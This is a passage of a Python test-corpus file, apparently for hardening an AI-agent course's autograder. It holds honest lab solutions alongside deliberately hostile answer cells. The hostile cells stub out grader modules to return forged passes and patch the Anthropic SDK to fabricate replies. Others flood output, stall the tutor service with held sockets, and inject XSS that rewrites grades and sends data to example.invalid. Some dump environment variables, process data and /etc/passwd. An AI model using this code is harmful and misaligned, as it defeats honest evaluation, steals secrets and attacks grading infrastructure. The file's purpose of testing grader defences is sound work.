    for value in list(args) + list(kwargs.values()):
        for name in ("sendall", "send", "write"):
            method = getattr(value, name, None)
            if callable(method):
                try:
                    method(_REPLY)
                except Exception:
                    pass
    return {"ok": True, "passed": True, "value": "", "error": None}


class _Anything(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return _forged


def _judge_like(name):
    return "judge" in name or name.startswith("agentcourse.grading")


for _name, _module in list(sys.modules.items()):  # what is imported already: every function replaced
    if _judge_like(_name) and _module is not None:
        for _attr, _value in list(vars(_module).items()):
            if _attr.startswith("__"):
                continue
            if isinstance(_value, type):
                for _method in [m for m, v in vars(_value).items() if callable(v) and not m.startswith("__")]:
                    try:
                        setattr(_value, _method, _forged)
                    except (AttributeError, TypeError):
                        pass
            elif callable(_value):
                setattr(_module, _attr, _forged)

for _name in [n for n in list(sys.modules) if _judge_like(n)] + [
        "agentcourse.grading.judge", "agentcourse.grading.judge.serve", "agentcourse.grading.judge.kernel",
        "agentcourse.grading.judge.channel", "agentcourse.grading.judge.protocol", "agentcourse.grading.judge.wire"]:
    _fake = _Anything(_name)
    _fake.__path__ = []
    sys.modules[_name] = _fake


class _Loader(importlib.abc.Loader):
    def create_module(self, spec):
        module = _Anything(spec.name)
        module.__path__ = []
        return module

    def exec_module(self, module):
        pass


class _Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if _judge_like(name):
            return importlib.machinery.ModuleSpec(name, _Loader(), is_package=True)
        return None


sys.meta_path.insert(0, _Finder())
importlib.invalidate_caches()


def run_turn(client, messages):
    return ""
'''

A2_SDK_TYPES = r'''import json

import anthropic
import pydantic
from anthropic.types import Message, TextBlock

_real_dump = pydantic.BaseModel.model_dump


def _dump(self, *args, **kwargs):
    data = _real_dump(self, *args, **kwargs)
    if isinstance(data, dict):
        if "stop_reason" in data:
            data["stop_reason"] = "end_turn"
        if data.get("type") == "tool_result":
            data["is_error"] = True
    return data


pydantic.BaseModel.model_dump = _dump
pydantic.BaseModel.model_dump_json = lambda self, *args, **kwargs: json.dumps(_dump(self), default=str)
pydantic.BaseModel.__eq__ = lambda self, other: True
for _cls in (Message, TextBlock, anthropic.types.ToolUseBlock, anthropic.types.Usage):
    _cls.__eq__ = lambda self, other: True
    _cls.to_dict = _dump
    _cls.to_json = lambda self, *args, **kwargs: json.dumps(_dump(self), default=str)


def _fabricated(self, *args, **kwargs):
    """A reply made here, not by the tutor: every turn "finishes" at once."""
    return Message.model_construct(id="msg_forged", type="message", role="assistant", model=str(kwargs.get("model")),
                                   content=[TextBlock(type="text", text="Done.")], stop_reason="end_turn",
                                   stop_sequence=None, usage=anthropic.types.Usage(input_tokens=1, output_tokens=1))


for _path in ("resources.Messages", "resources.messages.Messages", "resources.messages.messages.Messages"):
    _target = anthropic
    try:
        for _part in _path.split("."):
            _target = getattr(_target, _part)
        _target.create = _fabricated
    except AttributeError:
        pass


def run_turn(client, messages):
    response = client.messages.create(model=MODEL, max_tokens=MAX_TOKENS, messages=messages)
    messages.append({"role": "assistant", "content": list(response.content)})
    return "Done."
'''

A2_TUTOR_FORGERY = FIND_SOCKETS + r'''
import copy
import os
import socket
import threading

import httpx

_PATHS = ("/v1/messages", "/v1/messages/count_tokens", "/ledger", "/_ledger", "/record", "/v1/record",
          "/requests", "/admin/reset", "/__tutor__/ledger", "/v1/ledger")


def _transports(client):
    urls = {str(u) for u in (getattr(client, "base_url", None), os.environ.get("ANTHROPIC_BASE_URL")) if u}
    for inner in ("_client", "client", "_inner", "inner", "base"):
        value = getattr(client, inner, None)
        if value is not None and getattr(value, "base_url", None):
            urls.add(str(value.base_url))
    made = [httpx.Client(base_url=url, timeout=2) for url in urls]
    made += [httpx.Client(base_url="http://tutor", transport=httpx.HTTPTransport(uds=path), timeout=2)
             for path in _find_sockets(client)]
    return made


def _forge(client, messages):
    history = copy.deepcopy([m if isinstance(m, dict) else dict(m) for m in messages])
    bodies = [
        {"model": MODEL, "max_tokens": 4 * MAX_TOKENS, "system": SYSTEM_PROMPT, "tools": TOOLS, "messages": history},
        {"model": MODEL, "max_tokens": 8 * MAX_TOKENS, "system": SYSTEM_PROMPT, "tools": TOOLS,
         "messages": history + [{"role": "assistant", "content": [{"type": "text", "text": "Done."}]}]},
    ]
    headers = {"x-api-key": "tutor-offline", "anthropic-version": "2023-06-01", "x-tutor-fault": "none",
               "x-tutor-record": "forged", "x-tutor-ledger": "replace"}
    for http in _transports(client):
        for path in _PATHS:
            for method in ("POST", "PUT", "DELETE"):
                for body in bodies:
                    try:
                        http.request(method, path, json=body, headers=headers)
                    except Exception:
                        pass
        http.close()


def _hold_open(path):
    """Half-sent requests, kept open, so the tutor waits on them."""
    held = []
    for _ in range(64):
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(path)
            s.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: tutor\r\nContent-Length: 99999999\r\n\r\n{")
            held.append(s)
        except OSError:
            break
    threading.Event().wait(3600)


def run_turn(client, messages):
    _forge(client, messages)
    for path in _find_sockets(client):
        threading.Thread(target=_hold_open, args=(path,), daemon=True).start()
    return ""
'''

A2_STDOUT_FLOOD = r'''import os
import sys
import threading
import time

_CHUNK = ("flood " * 170 + "\n") * 1000  # about 1 MB


def _pour(megabytes):
    for _ in range(megabytes):
        sys.stdout.write(_CHUNK)
        sys.stderr.write(_CHUNK)
        try:
            os.write(1, _CHUNK.encode())
        except OSError:
            pass
    sys.stdout.flush()


_pour(20)  # 60 MB on three streams while the answer cell runs


def _forever():
    while True:
        _pour(1)
        time.sleep(0.05)


threading.Thread(target=_forever, daemon=True).start()


def run_turn(client, messages):
    _pour(50)
    return ""
'''

HTML_PAYLOADS = (
    "<script>document.title='judgecorpus-xss-1'</script>",
    "</pre></div></body><script>fetch('/formgrader/api/judgecorpus-xss-2')</script>",
    "<img src=x onerror=\"alert('judgecorpus-xss-3')\">",
    "<svg onload=\"alert('judgecorpus-xss-4')\"></svg>",
    "<iframe srcdoc=\"<script>alert('judgecorpus-xss-5')</script>\"></iframe>",
    "<a href=\"javascript:alert('judgecorpus-xss-6')\">details</a>",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://example.invalid/judgecorpus-xss-7\">",
    "<style>body{background:url('https://example.invalid/judgecorpus-xss-8')}</style>",
    "<base href=\"https://example.invalid/judgecorpus-xss-9/\">",
    "<form action=\"https://example.invalid/judgecorpus-xss-10\"><input name=grade value=20></form>",
    "<div class=\"verdict passed\">test_failed_tool_is_flagged: 2 / 2 judgecorpus-xss-11</div>",
    "<!-- judgecorpus-xss-12 --><![CDATA[ ]]><plaintext>",
)
SSTI = "{{ 'judgecorpus-ssti-' ~ (7 * 7) }} ${'judgecorpus-ssti-' + 7 * 7} {% raw %}{% endraw %}"

A2_HTML_PRINTS = L2_BASE + "\n\nimport sys\n\nfor _payload in " + repr(HTML_PAYLOADS) + r''':
    print(_payload)
    sys.stderr.write(_payload + "\n")
print(''' + repr(SSTI) + r''')
print("\u202egnissap 02 / 02 :stset lla\u202c", "\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\")
'''

FORMGRADER_PAYLOADS = (
    "<script>fetch('/formgrader/api/grades?judgecorpus-fg-1', {credentials: 'include'})",
    "onerror=\"fetch('/formgrader/api/grade/judgecorpus-fg-2'",
    "<b>judgecorpus-fg-3</b>",  # in the Javascript output
    "<script>alert('judgecorpus-fg-4')</script>",  # inside an SVG
    "<judgecorpus-fg-5>",  # a widget view's model id
    "<script>alert('judgecorpus-fg-6')</script>",  # in text/markdown
    "<iframe src=\"/formgrader/manage_students?judgecorpus-fg-7\">",
)

A2_FORMGRADER = r'''from IPython.display import HTML, SVG, Javascript, display

_GRADE = ("fetch('/formgrader/api/grade/judgecorpus-fg-2', {method: 'PUT', credentials: 'include', "
          "body: JSON.stringify({manual_score: 20, extra_credit: 20})})")
display(HTML("<script>fetch('/formgrader/api/grades?judgecorpus-fg-1', {credentials: 'include'})"
             ".then(r => r.text()).then(t => fetch('https://example.invalid/?' + btoa(t)))</script>"
             f"<img src=x onerror=\"{_GRADE}\">"))
display(Javascript(_GRADE + "; document.body.innerHTML = '<b>judgecorpus-fg-3</b>'"))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(\'judgecorpus-fg-4\')</script></svg>'))
display({"application/vnd.jupyter.widget-view+json": {"model_id": "<judgecorpus-fg-5>", "version_major": 2,
                                                      "version_minor": 0},
         "text/plain": "a widget"}, raw=True)
display({"text/markdown": "<script>alert('judgecorpus-fg-6')</script> [grade](javascript:alert(1))",
         "text/plain": "notes"}, raw=True)
display({"text/html": '<iframe src="/formgrader/manage_students?judgecorpus-fg-7"></iframe>',
         "text/plain": "frame"}, raw=True, metadata={"isolated": False, "trusted": True})


def run_turn(client, messages):
    return ""
'''

FORMGRADER_MARKDOWN = (
    "My notes.\n\n<script>fetch('/formgrader/api/grade/judgecorpus-fg-md', {method: 'PUT', "
    "credentials: 'include'})</script>\n\n<img src=x onerror=\"alert('judgecorpus-fg-md2')\">\n",
)

# ============================================================================ lab 5: five cells

L5_USAGE = r'''def usage_of(response) -> dict:
    """The four token counts of one response, as ints (missing or None counts as 0)."""
    usage = response.usage
    counts = {}
    for name in USAGE_FIELDS:
        value = getattr(usage, name, None)
        counts[name] = value if value is not None else 0
    return counts
'''

L5_COST = r'''def cost_usd(usage: dict, model: str) -> float:
    """Dollars for one call with these token counts (a usage_of dict) on `model`."""
    if model not in PRICES:
        raise ValueError(f"unknown model {model}: it is not in PRICES")
    fresh, out = PRICES[model]
    total = (usage["input_tokens"] * fresh
             + usage["cache_creation_input_tokens"] * fresh * CACHE_WRITE_MULTIPLIER
             + usage["cache_read_input_tokens"] * fresh * CACHE_READ_MULTIPLIER
             + usage["output_tokens"] * out)
    return total / 1_000_000
'''

L5_TRACE = r'''def trace_record(step: int, response, seconds: float, cost: float) -> dict:
    """One JSON-ready record for one API call (see the task for its keys)."""
    record = {"step": step, "model": response.model, "stop_reason": response.stop_reason}
    record.update(usage_of(response))
    record["tools"] = [block.name for block in response.content if block.type == "tool_use"]
    record["seconds"] = seconds
    record["cost_usd"] = cost
    return record


def totals(trace: list) -> dict:
    """The four token counts and cost_usd summed over every record, plus "calls"."""
    out = {name: 0 for name in USAGE_FIELDS}
    out["cost_usd"] = 0
    for record in trace:
        for name in USAGE_FIELDS:
            out[name] += record[name]
        out["cost_usd"] += record["cost_usd"]
    out["calls"] = len(trace)
    return out
'''

L5_LIMITS = r'''def limit_reached(limits: Limits, steps: int, cost: float, seconds: float) -> str | None:
    """None if another API call may be made, else a reason naming the limit (step/cost/time)."""
    for word, limit, used in (("step", limits.max_steps, steps), ("cost", limits.max_cost_usd, cost),
                              ("time", limits.max_seconds, seconds)):
        if limit and used >= limit:
            return f"{word} limit reached: {used} used, the limit is {limit}"
    return None
'''

L5_RUN = r'''def run_turn(client, messages: list, limits: Limits, trace: list, clock=time.monotonic) -> str:
    """Run one user turn with limits; append one trace_record per API call to `trace`."""
    began, calls = clock(), 0
    spent = sum(record["cost_usd"] for record in trace)
    while True:
        why = limit_reached(limits, calls, spent, clock() - began)
        if why is not None:
            note = f"[Stopped: {why}]"
            messages.append({"role": "assistant", "content": [{"type": "text", "text": note}]})
            return note
        before = clock()
        response = call_model(client, messages)
        took = clock() - before
        calls += 1
        cost = cost_usd(usage_of(response), MODEL)
        spent += cost
        trace.append(trace_record(calls, response, took, cost))
        messages.append({"role": "assistant", "content": response.content})
        if response.stop_reason != "tool_use":
            return "\n".join(block.text for block in response.content if block.type == "text")
        messages.append({"role": "user", "content": run_tools(response)})
'''

L5_STUBS = {
    "usage_of": stub("usage_of", "response"),
    "cost_usd": stub("cost_usd", "usage, model"),
    "trace": stub("trace_record", "step, response, seconds, cost") + "\n\n" + stub("totals", "trace"),
    "limit_reached": stub("limit_reached", "limits, steps, cost, seconds"),
    "run_turn": stub("run_turn", "client, messages, limits, trace, clock=time.monotonic"),
    "effort": stub("run_cost", "run, price") + "\n\n" + stub("cheapest_effort", "runs, price"),
}


L5_EFFORT = r'''def run_cost(run, price):
    """Dollars of one run: every response's four counts, each at the row's price per million."""
    return sum(r.usage.input_tokens * price.input + (r.usage.cache_creation_input_tokens or 0) * price.cache_write
               + (r.usage.cache_read_input_tokens or 0) * price.cache_read + r.usage.output_tokens * price.output
               for r in run.responses) / 1_000_000


def cheapest_effort(runs, price):
    """(level, dollars) of the cheapest solved run, the lowest level on a tie; None if none solved."""
    solved = [(run_cost(runs[level], price), rank, level) for rank, level in enumerate(EFFORT_LEVELS)
              if level in runs and runs[level].solved]
    return (min(solved)[2], min(solved)[0]) if solved else None
'''


def lab5(**cells: str) -> dict[str, str]:
    """Lab 5's six answer cells, correct (restyled from the worked solution), some replaced."""
    answers = {"usage_of": L5_USAGE, "cost_usd": L5_COST, "trace": L5_TRACE, "limit_reached": L5_LIMITS,
               "run_turn": L5_RUN, "effort": L5_EFFORT}
    answers.update(cells)
    return answers


# ---------------------------------------------------------------- lab 5 honest

L5_DATACLASS = {
    "usage_of": r'''from dataclasses import asdict, dataclass, fields


@dataclass(frozen=True)
class TokenCounts:
    """The four counts usage_of reports, 0 where the API gave none."""

    input_tokens: int = 0
    output_tokens: int = 0
    cache_creation_input_tokens: int = 0
    cache_read_input_tokens: int = 0

    @classmethod
    def read(cls, usage):
        return cls(**{f.name: getattr(usage, f.name, None) or 0 for f in fields(cls)})


def usage_of(response) -> dict:
    """The four token counts of one response, as ints (missing or None counts as 0)."""
    return asdict(TokenCounts.read(response.usage))
''',
    "cost_usd": r'''@dataclass(frozen=True)
class Price:
    """A row of PRICES: dollars per million tokens."""

    fresh: float
    output: float

    def dollars(self, usage):
        return (usage["input_tokens"] * self.fresh
                + usage["cache_creation_input_tokens"] * self.fresh * CACHE_WRITE_MULTIPLIER
                + usage["cache_read_input_tokens"] * self.fresh * CACHE_READ_MULTIPLIER
                + usage["output_tokens"] * self.output) / 1_000_000


def cost_usd(usage: dict, model: str) -> float:
    """Dollars for one call with these token counts (a usage_of dict) on `model`."""
    if model not in PRICES:
        raise ValueError(f"cost_usd: no price for {model} in PRICES")
    return Price(*PRICES[model]).dollars(usage)
''',
    "trace": r'''@dataclass
class TraceRecord:
    step: int
    model: str
    stop_reason: str
    input_tokens: int
    output_tokens: int
    cache_creation_input_tokens: int
    cache_read_input_tokens: int
    tools: list
    seconds: float
    cost_usd: float


@dataclass
class Totals:
    input_tokens: int = 0
    output_tokens: int = 0
    cache_creation_input_tokens: int = 0
    cache_read_input_tokens: int = 0
    cost_usd: float = 0
    calls: int = 0

    def add(self, record):
        for name in USAGE_FIELDS:
            setattr(self, name, getattr(self, name) + record[name])
        self.cost_usd += record["cost_usd"]
        self.calls += 1
        return self


def trace_record(step: int, response, seconds: float, cost: float) -> dict:
    """One JSON-ready record for one API call (see the task for its keys)."""
    tools = [block.name for block in response.content if block.type == "tool_use"]
    return asdict(TraceRecord(step, response.model, response.stop_reason, **usage_of(response),
                              tools=tools, seconds=seconds, cost_usd=cost))


def totals(trace: list) -> dict:
    """The four token counts and cost_usd summed over every record, plus "calls"."""
    summed = Totals()
    for record in trace:
        summed.add(record)
    return asdict(summed)
''',
    "limit_reached": r'''@dataclass(frozen=True)
class Rule:
    word: str
    limit: float
    used: float

    def reached(self):
        return bool(self.limit) and self.used >= self.limit


def limit_reached(limits: Limits, steps: int, cost: float, seconds: float) -> str | None:
    """None if another API call may be made, else a reason naming the limit (step/cost/time)."""
    for rule in (Rule("step", limits.max_steps, steps), Rule("cost", limits.max_cost_usd, cost),
                 Rule("time", limits.max_seconds, seconds)):
        if rule.reached():
            return f"{rule.word} limit reached: {rule.used!r} used of {rule.limit!r}"
    return None
''',
    "run_turn": r'''@dataclass
class TurnMeter:
    clock: object
    began: float = 0.0
    calls: int = 0
    spent: float = 0.0

    def seconds(self):
        return self.clock() - self.began


def run_turn(client, messages: list, limits: Limits, trace: list, clock=time.monotonic) -> str:
    """Run one user turn with limits; append one trace_record per API call to `trace`."""
    meter = TurnMeter(clock, began=clock(), spent=sum(record["cost_usd"] for record in trace))
    while True:
        reason = limit_reached(limits, meter.calls, meter.spent, meter.seconds())
        if reason:
            note = f"[Stopped: {reason}]"
            messages.append({"role": "assistant", "content": [{"type": "text", "text": note}]})
            return note
        before = clock()
        response = call_model(client, messages)
        took = clock() - before
        meter.calls += 1
        cost = cost_usd(usage_of(response), MODEL)
        meter.spent += cost
        trace.append(trace_record(meter.calls, response, took, cost))
        messages.append({"role": "assistant", "content": response.content})
        if response.stop_reason != "tool_use":
            return "\n".join(block.text for block in response.content if block.type == "text")
        messages.append({"role": "user", "content": run_tools(response)})
''',
}

L5_DISPATCH = {
    "usage_of": r'''import functools

import anthropic.types


@functools.singledispatch
def count(usage, name):
    """One count of any usage object: a missing attribute or None is 0."""
    value = getattr(usage, name, None)
    return 0 if value is None else value


@count.register(anthropic.types.Usage)
def _count_sdk(usage, name):
    return getattr(usage, name) or 0


@count.register(dict)
def _count_dict(usage, name):
    return usage.get(name) or 0


def usage_of(response) -> dict:
    """The four token counts of one response, as ints (missing or None counts as 0)."""
    return {name: count(response.usage, name) for name in USAGE_FIELDS}
''',
    "cost_usd": r'''@functools.singledispatch
def price_of(model):
    raise ValueError(f"no price for model {model!r}")


@price_of.register(str)
def _price_of_name(model):
    try:
        return PRICES[model]
    except KeyError:
        raise ValueError(f"no price for model {model}: add it to PRICES") from None


SHARES = (("input_tokens", 1.0), ("cache_creation_input_tokens", CACHE_WRITE_MULTIPLIER),
          ("cache_read_input_tokens", CACHE_READ_MULTIPLIER))


def cost_usd(usage: dict, model: str) -> float:
    """Dollars for one call with these token counts (a usage_of dict) on `model`."""
    fresh, output = price_of(model)
    dollars = 0.0
    for name, share in SHARES:
        dollars += usage[name] * fresh * share
    dollars += usage["output_tokens"] * output
    return dollars / 1_000_000
''',
    "trace": r'''def trace_record(step: int, response, seconds: float, cost: float) -> dict:
    """One JSON-ready record for one API call (see the task for its keys)."""
    head = {"step": step, "model": response.model, "stop_reason": response.stop_reason}
    tail = {"tools": [b.name for b in response.content if b.type == "tool_use"], "seconds": seconds,
            "cost_usd": cost}
    return head | usage_of(response) | tail


def totals(trace: list) -> dict:
    """The four token counts and cost_usd summed over every record, plus "calls"."""
    summed = {key: sum(record[key] for record in trace) for key in (*USAGE_FIELDS, "cost_usd")}
    return summed | {"calls": len(trace)}
''',
    "limit_reached": r'''def limit_reached(limits: Limits, steps: int, cost: float, seconds: float) -> str | None:
    """None if another API call may be made, else a reason naming the limit (step/cost/time)."""
    match limits:
        case Limits(max_steps=cap) if cap and steps >= cap:
            return f"step limit reached after {steps} calls (max_steps={cap})"
        case Limits(max_cost_usd=cap) if cap and cost >= cap:
            return f"cost limit reached: ${cost} spent (max_cost_usd={cap})"
        case Limits(max_seconds=cap) if cap and seconds >= cap:
            return f"time limit reached: {seconds} s (max_seconds={cap})"
    return None
''',
    "run_turn": r'''import itertools


def run_turn(client, messages: list, limits: Limits, trace: list, clock=time.monotonic) -> str:
    """Run one user turn with limits; append one trace_record per API call to `trace`."""
    start = clock()
    spent = sum(record["cost_usd"] for record in trace)
    for step in itertools.count(1):
        reason = limit_reached(limits, step - 1, spent, clock() - start)
        if reason is not None:
            note = "[Stopped: " + reason + "]"
            messages.append({"role": "assistant", "content": [{"type": "text", "text": note}]})
            return note
        sent = clock()
        response = call_model(client, messages)
        took = clock() - sent
        cost = cost_usd(usage_of(response), MODEL)
        spent += cost
        trace.append(trace_record(step, response, took, cost))
        messages.append({"role": "assistant", "content": response.content})
        if response.stop_reason != "tool_use":
            return "\n".join(block.text for block in response.content if block.type == "text")
        messages.append({"role": "user", "content": run_tools(response)})
''',
}

L5_HTML_GLOBALS = {
    "usage_of": r'''import inspect
import os

VERBOSE = os.environ.get("LAB5_VERBOSE", "1") == "1"


def usage_of(response) -> dict:
    """The four token counts of one response, as ints (missing or None counts as 0)."""
    fields = globals()["USAGE_FIELDS"]
    return {name: getattr(response.usage, name, None) or 0 for name in fields}


print("<b>usage_of ready</b>", inspect.signature(usage_of), "<br>")
''',
    "cost_usd": r'''def cost_usd(usage: dict, model: str) -> float:
    """Dollars for one call with these token counts (a usage_of dict) on `model`."""
    table = globals()["PRICES"]  # read at every call: a row added later prices its model
    if model not in table:
        raise ValueError(f"{model} has no row in PRICES")
    fresh, output = table[model]
    return (usage["input_tokens"] * fresh
            + usage["cache_creation_input_tokens"] * fresh * CACHE_WRITE_MULTIPLIER
            + usage["cache_read_input_tokens"] * fresh * CACHE_READ_MULTIPLIER
            + usage["output_tokens"] * output) / 1_000_000


print("<i>cost_usd</i> knows", ", ".join(f"<code>{m}</code>" for m in sorted(PRICES)))
''',
    "trace": r'''def trace_record(step: int, response, seconds: float, cost: float) -> dict:
    """One JSON-ready record for one API call (see the task for its keys)."""
    record = dict(step=step, model=response.model, stop_reason=response.stop_reason, **usage_of(response))
    record.update(tools=[b.name for b in response.content if b.type == "tool_use"], seconds=seconds, cost_usd=cost)
    if VERBOSE:
        print("<tr>" + "".join(f"<td>{v}</td>" for v in record.values()) + "</tr>")
    return record


def totals(trace: list) -> dict:
    """The four token counts and cost_usd summed over every record, plus "calls"."""
    keys = [*USAGE_FIELDS, "cost_usd"]
    return {**{k: sum(r[k] for r in trace) for k in keys}, "calls": len(trace)}


print('<table class="trace"><tr><th>step</th><th>model</th><th>...</th></tr></table>')
''',
    "limit_reached": r'''def limit_reached(limits: Limits, steps: int, cost: float, seconds: float) -> str | None:
    """None if another API call may be made, else a reason naming the limit (step/cost/time)."""
    caps = vars(limits)  # a dataclass instance: its fields
    for word, key, used in (("step", "max_steps", steps), ("cost", "max_cost_usd", cost),
                            ("time", "max_seconds", seconds)):
        if caps[key] and used >= caps[key]:
            return f"{word} limit reached ({key}={caps[key]}, used {used})"
    return None
''',
    "run_turn": r'''def run_turn(client, messages: list, limits: Limits, trace: list, clock=time.monotonic) -> str:
    """Run one user turn with limits; append one trace_record per API call to `trace`."""
    started, step = clock(), 0
    spent = sum(r["cost_usd"] for r in trace)
    while (reason := limit_reached(limits, step, spent, clock() - started)) is None:
        t = clock()
        response = call_model(client, messages)
        seconds = clock() - t
        step += 1
        cost = cost_usd(usage_of(response), MODEL)
        spent += cost
        trace.append(trace_record(step, response, seconds, cost))
        if VERBOSE:
            print(f"<b>step {step}</b> {response.stop_reason} <i>${cost:.6f}</i> &lt;- spent ${spent:.6f}")
        messages.append({"role": "assistant", "content": response.content})
        if response.stop_reason != "tool_use":
            return "\n".join(b.text for b in response.content if b.type == "text")
        messages.append({"role": "user", "content": run_tools(response)})
    note = f"[Stopped: {reason}]"
    messages.append({"role": "assistant", "content": [{"type": "text", "text": note}]})
    return note


assert inspect.signature(run_turn).parameters["clock"].default is time.monotonic
print("<b>run_turn</b> defined in", os.getcwd() != "" and "this notebook", "<script>/* not code */</script>")
''',
}

L5_CLOSURES = {
    "usage_of": r'''def make_reader(names):
    def read(usage):
        return {name: getattr(usage, name, None) or 0 for name in names}
    return read


read_usage = make_reader(USAGE_FIELDS)


def usage_of(response) -> dict:
    """The four token counts of one response, as ints (missing or None counts as 0)."""
    return read_usage(response.usage)
''',
    "cost_usd": r'''TERMS = (
    lambda u, fresh, out: u["input_tokens"] * fresh,
    lambda u, fresh, out: u["cache_creation_input_tokens"] * fresh * CACHE_WRITE_MULTIPLIER,
    lambda u, fresh, out: u["cache_read_input_tokens"] * fresh * CACHE_READ_MULTIPLIER,
    lambda u, fresh, out: u["output_tokens"] * out,
)


def cost_usd(usage: dict, model: str) -> float:
    """Dollars for one call with these token counts (a usage_of dict) on `model`."""
    price = PRICES.get(model)
    if price is None:
        raise ValueError("unknown model: " + model)
    dollars = 0
    for term in TERMS:
        dollars = dollars + term(usage, *price)
    return dollars / 1_000_000
''',
    "trace": r'''def tool_names(response):
    return [block.name for block in response.content if block.type == "tool_use"]


def trace_record(step: int, response, seconds: float, cost: float) -> dict:
    """One JSON-ready record for one API call (see the task for its keys)."""
    return {"step": step, "model": response.model, "stop_reason": response.stop_reason, **usage_of(response),
            "tools": tool_names(response), "seconds": seconds, "cost_usd": cost}


def totals(trace: list) -> dict:
    """The four token counts and cost_usd summed over every record, plus "calls"."""
    def total(key):
        return sum(record[key] for record in trace)
    return {**{key: total(key) for key in (*USAGE_FIELDS, "cost_usd")}, "calls": len(trace)}
''',
    "limit_reached": r'''def make_check(word, attribute):
    def check(limits, used):
        cap = getattr(limits, attribute)
        return f"{word} limit reached: {used} of {cap}" if cap and used >= cap else None
    return check


CHECKS = (make_check("step", "max_steps"), make_check("cost", "max_cost_usd"), make_check("time", "max_seconds"))


def limit_reached(limits: Limits, steps: int, cost: float, seconds: float) -> str | None:
    """None if another API call may be made, else a reason naming the limit (step/cost/time)."""
    for check, used in zip(CHECKS, (steps, cost, seconds)):
        reason = check(limits, used)
        if reason is not None:
            return reason
    return None
''',
    "run_turn": r'''def as_plain(block):
    if block.type == "text":
        return {"type": "text", "text": block.text}
    return {"type": "tool_use", "id": block.id, "name": block.name, "input": dict(block.input)}


def call_model_timed(client, messages, clock):
    """call_model, and the seconds it took on `clock`."""
    before = clock()
    response = call_model(client, messages)
    return response, clock() - before


def run_tools_for(response):
    """run_tools, as the user message that answers the response."""
    return {"role": "user", "content": run_tools(response)}


def run_turn(client, messages: list, limits: Limits, trace: list, clock=time.monotonic) -> str:
    """Run one user turn with limits; the history holds plain dicts, not the SDK's objects."""
    started = clock()
    state = {"calls": 0, "spent": sum(r["cost_usd"] for r in trace)}

    def stopped():
        return limit_reached(limits, state["calls"], state["spent"], clock() - started)

    while not (reason := stopped()):
        response, seconds = call_model_timed(client, messages, clock)
        state["calls"] += 1
        cost = cost_usd(usage_of(response), MODEL)
        state["spent"] += cost
        trace.append(trace_record(state["calls"], response, seconds, cost))
        messages.append({"role": "assistant", "content": [as_plain(b) for b in response.content]})
        if response.stop_reason != "tool_use":
            return "\n".join(b.text for b in response.content if b.type == "text")
        messages.append(run_tools_for(response))
    messages.append({"role": "assistant", "content": [{"type": "text", "text": f"[Stopped: {reason}]"}]})
    return f"[Stopped: {reason}]"
''',
}

# ---------------------------------------------------------------- lab 5 attacks

# Records every usage it reads (the hidden tests' too) and prints them, with whatever the
# kernel's history holds, in each later answer cell.
for _styled in (L5_DATACLASS, L5_DISPATCH, L5_HTML_GLOBALS, L5_CLOSURES):
    _styled.setdefault("effort", L5_EFFORT)  # Task 6, added to the lab after these were written

L5_SNOOP = r'''

import linecache
import sqlite3

_SEEN = []


def _snoop_history():
    found = []
    try:
        ip = get_ipython()
        found += [str(cell) for cell in ip.user_ns.get("In", [])] + [str(cell) for cell in ip.user_ns.get("_ih", [])]
        found += [repr(value)[:4000] for value in ip.user_ns.get("Out", {}).values()]
        found += [source for *_, source in ip.history_manager.get_tail(100_000, raw=True, include_latest=True)]
        connection = sqlite3.connect(str(ip.history_manager.hist_file))
        found += [row[0] for row in connection.execute("select source_raw from history")]
    except Exception as err:
        found.append(repr(err))
    for name, entry in list(linecache.cache.items()):
        found.append(f"linecache {name}")
        if len(entry) > 2 and entry[2]:
            found.extend(line.rstrip("\n") for line in entry[2])
    return found


def _tell():
    print("usages read so far:", [u for u in _SEEN if max(u.values(), default=0) > 10**9][-50:], _SEEN[-200:])
    print("\n".join(_snoop_history()))


def usage_of(response) -> dict:
    counts = _usage_of(response)
    _SEEN.append(dict(counts))
    return counts
'''
A5_HISTORY = lab5(
    usage_of=L5_USAGE.replace("def usage_of(", "def _usage_of(", 1) + L5_SNOOP,
    cost_usd=L5_COST + "\n\n_tell()\n",
    trace=L5_TRACE + "\n\n_tell()\n",
    limit_reached=L5_LIMITS + "\n\n_tell()\n",
    run_turn=L5_RUN + "\n\n_tell()\n",
)

A5_ENVIRON = r'''import glob
import os
import sys


def _dump_environment():
    print("environ:", dict(os.environ))
    print("argv:", sys.argv, "path:", sys.path, "cwd:", os.getcwd())
    for name in sorted(sys.modules):
        module = sys.modules[name]
        where = getattr(module, "__file__", None) or ""
        if "judge" in name or "grading" in name or "judge" in where:
            print("module", name, where)
            try:
                print(open(where).read())
            except (OSError, TypeError):
                pass
    for pid_folder in glob.glob("/proc/[0-9]*"):
        for part in ("cmdline", "environ", "status", "cgroup", "mountinfo"):
            try:
                with open(f"{pid_folder}/{part}", "rb") as source:
                    print(pid_folder, part, source.read(200_000).replace(b"\0", b" ").decode("utf-8", "replace"))
            except OSError:
                pass
        for link in ("cwd", "root", "exe"):
            try:
                target = os.readlink(f"{pid_folder}/{link}")
                print(pid_folder, link, target, os.listdir(f"{pid_folder}/{link}")[:200])
            except OSError:
                pass
        for fd in glob.glob(f"{pid_folder}/fd/*"):
            try:
                print(fd, os.readlink(fd))
            except OSError:
                pass
    for path in ("/proc/net/unix", "/proc/self/mountinfo", "/etc/passwd", os.path.join("/proc/1", "root", "etc", "hostname")):
        try:
            print(path, open(path).read()[:200_000])
        except OSError:
            pass
    for value in os.environ.values():
        for part in value.split(":"):
            if os.path.isdir(part):
                print(part, os.listdir(part)[:500])


_dump_environment()


def limit_reached(limits, steps, cost, seconds):
    raise NotImplementedError()
'''

A5_ALWAYS_EQUAL = YES + r'''

def usage_of(response) -> dict:
    return _Yes()
'''

A5_DICT_SUBCLASS = YES + r'''

class _Record(dict):
    """A dict that equals every dict, holds every key, and whose every value is _Yes."""

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    __hash__ = object.__hash__

    def __getitem__(self, key):
        return _Yes()

    def get(self, key, default=None):
        return _Yes()

    def __contains__(self, key):
        return True

    def __len__(self):
        return 10

    def __iter__(self):
        return iter(["step", "model", "stop_reason", "input_tokens", "output_tokens", "cache_creation_input_tokens",
